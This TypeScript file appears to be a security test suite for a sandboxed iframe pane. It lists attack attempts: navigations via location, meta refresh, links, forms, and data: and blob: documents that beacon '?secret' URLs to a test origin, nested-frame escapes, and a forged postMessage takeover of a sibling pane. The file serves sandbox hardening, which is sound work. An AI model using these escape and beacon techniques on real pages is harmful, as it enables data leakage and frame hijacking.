import type { Attack } from './attack';

/** Attempts of the pane to become another document. Each gets a pane of its own: most of them end it. */
export const NAVIGATION_ATTACKS: readonly Attack[] = [
  {
    name: 'location',
    run: ({ origin }) => {
      location.href = `${origin}/location?secret`;
    },
    arrives: ['/location?secret'],
  },
  {
    name: 'a meta refresh',
    run: ({ origin }) => {
      document.head.insertAdjacentHTML(
        'beforeend',
        `<meta http-equiv="refresh" content="0;url=${origin}/refresh?secret">`,
      );
    },
    arrives: ['/refresh?secret'],
  },
  {
    name: 'a click on a link',
    run: ({ origin }) => {
      const link = Object.assign(document.createElement('a'), { href: `${origin}/link?secret` });
      document.body.append(link);
      link.click();
    },
    arrives: ['/link?secret'],
  },
  {
    name: 'a form in the frame itself',
    run: ({ origin }) => {
      const form = Object.assign(document.createElement('form'), { action: `${origin}/form` });
      document.body.append(form);
      form.submit();
    },
    arrives: ['GET /form?'],
  },
  {
    name: 'a data: document that calls out',
    run: ({ origin }) => {
      location.href = `data:text/html,<script>fetch("${origin}/from-data");new Image().src="${origin}/data-image"</script>`;
    },
    arrives: ['/from-data', '/data-image'],
  },
  {
    name: 'a blob: document that calls out',
    run: ({ origin }) => {
      const text = `<script>fetch("${origin}/from-blob");new Image().src="${origin}/blob-image"</script>`;
      location.href = URL.createObjectURL(new Blob([text], { type: 'text/html' }));
    },
    arrives: ['/from-blob', '/blob-image'],
  },
  {
    name: 'the site itself, which could be framed and scripted',
    run: () => {
      location.href = '/';
    },
    arrives: ['GET / '],
  },
  {
    name: 'a document written over its own that calls out',
    run: ({ origin }) => {
      document.open();
      document.write(`<img src="${origin}/written"><script src="${origin}/written.js"></` + `script>`);
      document.close();
    },
    arrives: ['/written ', '/written.js'],
  },
];

/** Attempts through frames inside the pane: for such a frame Chromium would open a connection, and send nothing. */
export const FRAME_ATTACKS: readonly Attack[] = [
  {
    name: 'a nested frame',
    run: ({ origin }) => {
      document.body.append(
        Object.assign(document.createElement('iframe'), { src: `${origin}/nested?secret` }),
      );
      return new Promise((resolve) => setTimeout(resolve, 500, 'inserted'));
    },
    outcome: 'inserted',
    arrives: ['/nested?secret'],
  },
  {
    name: 'a nested frame that navigates itself',
    run: ({ origin }) => {
      const srcdoc = `<meta http-equiv="refresh" content="0;url=${origin}/nested-refresh?secret">`;
      document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }));
      return new Promise((resolve) => setTimeout(resolve, 500, 'inserted'));
    },
    outcome: 'inserted',
    arrives: ['/nested-refresh?secret'],
  },
  {
    name: 'a nested frame that is navigated from outside',
    run: ({ origin }) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      frame.contentWindow!.location.href = `${origin}/nested-location?secret`;
      return new Promise((resolve) => setTimeout(resolve, 500, 'set'));
    },
    outcome: 'TypeError', // there is no frame
    arrives: ['/nested-location?secret'],
  },
];

/** Attempts on the other pane of the page. */
export const SIBLING_ATTACKS: readonly Attack[] = [
  {
    name: 'the document of the other pane',
    run: () => {
      const other = [0, 1].map((index) => parent.frames[index]).find((frame) => frame !== window);
      return other!.document.title;
    },
    outcome: 'SecurityError',
  },
  {
    name: 'a forged setup for the other pane',
    run: () => {
      const other = [0, 1].map((index) => parent.frames[index]).find((frame) => frame !== window);
      const setup = {
        type: 'crossfade-pane-setup',
        modules: { program: 'document.body.textContent = "taken over"' },
        entry: 'program',
        html: '',
        person: 'x',
        devices: [],
      };
      other!.postMessage(setup, '*', [new MessageChannel().port2]);
      return 'sent';
    },
    outcome: 'sent',
  },
  {
    name: 'navigation of the other pane',
    run: ({ origin }) => {
      const other = [0, 1].map((index) => parent.frames[index]).find((frame) => frame !== window);
      other!.location.href = `${origin}/sibling`;
    },
    outcome: 'SecurityError',
  },
  {
    name: 'the history of the page',
    run: () => {
      history.back();
      history.go(-1);
      return new Promise((resolve) => setTimeout(resolve, 500, 'called'));
    },
    outcome: 'called',
  },
  {
    name: 'the navigation API',
    run: () => navigation.back(),
    outcome: 'SecurityError',
  },
];
